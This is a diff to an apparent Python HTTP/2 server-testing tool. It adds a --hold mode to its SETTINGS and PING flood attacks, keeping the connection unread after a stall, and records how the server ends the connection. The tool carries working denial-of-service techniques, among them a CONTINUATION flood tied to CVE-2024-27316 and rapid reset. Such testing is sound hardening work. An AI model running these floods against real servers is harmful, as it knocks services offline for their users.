@@ -15,8 +15,9 @@ ATTACK is one of:
   continuation    HEADERS without END_HEADERS, then CONTINUATION frames (CVE-2024-27316)
   big-headers     one request whose header list is about --count KiB (default 40)
   streams         --count requests (default 20) opened at once, each answered or refused
-  settings-flood  SETTINGS frames, the ACKs not read while flooding
-  ping-flood      PING frames, the ACKs not read while flooding
+  settings-flood  SETTINGS frames, the ACKs not read while flooding; after a stall, none
+                  read for up to --hold seconds more (until the server ends the connection)
+  ping-flood      PING frames, the same way
   after-goaway    a GET of --path (held open by the backend), then a GET of / every 0.25 s
                   for --seconds; the GOAWAY's PING is never acknowledged
   zero-window     SETTINGS_INITIAL_WINDOW_SIZE 0, then a GET of --path; never opens the
@@ -28,7 +29,10 @@ floods stop at a GOAWAY, the close, a stall, --count or --seconds); goaway (null
 reset_streams (their stream ids); statuses
 ({stream id: :status}); data_bytes (DATA payload received); acks (SETTINGS or PING ACKs
 received); closed (the server ended the connection); stalled (writes stopped being taken
-for a second: the server stopped reading); seconds (time the attack ran).
+for a second: the server stopped reading); held (floods with --hold: seconds spent not
+reading after the stall before the server ended the connection, or --hold); end (how the
+connection ended, if it did: "reset" (a TCP reset, seen by a read or write or in the TCP
+state), "fin" (the server's close), "error"); seconds (time the attack ran).
 
 The client's socket buffers are small (16 KiB each way), so a server that stops reading is
 seen as a stall after little data, and ACKs a server cannot send back up to the server.
@@ -55,6 +59,8 @@ from hyperframe.frame import (
     WindowUpdateFrame,
 )
 
+# tcp_info.tcpi_state (Linux): open; closed (here: by the peer's RST); the peer's FIN received
+TCP_ESTABLISHED, TCP_CLOSE, TCP_CLOSE_WAIT = 1, 7, 8
 PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
 ERROR_CODES = {
     0x0: "NO_ERROR",
@@ -102,6 +108,7 @@ class Conn:
         self.queued = bytearray()  # ciphertext not yet taken by the socket
         self.plain = bytearray()  # plaintext received, not yet parsed into frames
         self.closed = False
+        self.end = None  # how the connection ended, once it did: "reset", "fin", "error"
         self.last_taken = time.monotonic()
         self.encoder = hpack.Encoder()
         self.decoder = hpack.Decoder()
@@ -150,17 +157,20 @@ class Conn:
                     self.last_taken = time.monotonic()
             except BlockingIOError:
                 pass
-            except OSError:
+            except OSError as e:
                 self.closed = True
+                self.end = self.end or ("reset" if isinstance(e, ConnectionResetError) else "error")
         if r:
             try:
                 data = self.sock.recv(65536)
             except BlockingIOError:
                 data = None
-            except OSError:
+            except OSError as e:
                 data = b""
+                self.end = self.end or ("reset" if isinstance(e, ConnectionResetError) else "error")
             if data == b"":
                 self.closed = True
+                self.end = self.end or "fin"
                 self.incoming.write_eof()
             elif data:
                 self.incoming.write(data)
@@ -286,6 +296,21 @@ class Conn:
             (":path", path, True),
         ]
         return hpack.Encoder().encode(fields, huffman=False)
+
+    def hold(self, until):
+        """Read nothing until `until` or until the server ends the connection (the TCP state,
+        from TCP_INFO, leaves ESTABLISHED: a reset or the server's FIN; looking reads no
+        data, so the server's writes stay stalled). Returns the seconds held and how the
+        connection ended ("reset", "fin"; None: it did not)."""
+        began = time.monotonic()
+        state = TCP_ESTABLISHED
+        while time.monotonic() < until:
+            state = self.sock.getsockopt(socket.IPPROTO_TCP, socket.TCP_INFO, 8)[0]
+            if state != TCP_ESTABLISHED:
+                break
+            time.sleep(0.05)
+        how = {TCP_ESTABLISHED: None, TCP_CLOSE: "reset", TCP_CLOSE_WAIT: "fin"}.get(state, str(state))
+        return round(time.monotonic() - began, 3), how
 
     def drain(self, until, done=lambda res: False):
         """Read (and send what is queued) until `until` (monotonic), the close, or `done`."""
@@ -421,6 +446,9 @@ def ack_flood(one):
     def run(conn, a, out):
         conn.start()
         out["sent"], out["stalled"] = flood(conn, lambda i: one, a.count or 1_000_000, a.seconds, reading=False)
+        if out["stalled"] and a.hold:
+            # Still not reading: does the server give up on the connection?
+            out["held"], conn.end = conn.hold(time.monotonic() + a.hold)
         # Now read what came back (ACKs, a GOAWAY).
         conn.drain(time.monotonic() + 2)
 
@@ -473,6 +501,7 @@ def main():
     p.add_argument("--path", default="/")
     p.add_argument("--count", type=int, default=0)
     p.add_argument("--seconds", type=float, default=10.0)
+    p.add_argument("--hold", type=float, default=0, help="floods: after a stall, seconds to keep not reading")
     p.add_argument("--paced", type=float, default=0, help="rapid-reset: ms between a HEADERS and its RST_STREAM")
     a = p.parse_args()
     began = time.monotonic()
@@ -489,6 +518,7 @@ def main():
             "data_bytes": res["data_bytes"],
             "acks": res["acks"],
             "closed": conn.closed,
+            "end": conn.end if conn.end != "open" else None,
             "seconds": round(time.monotonic() - began, 3),
         }
     )
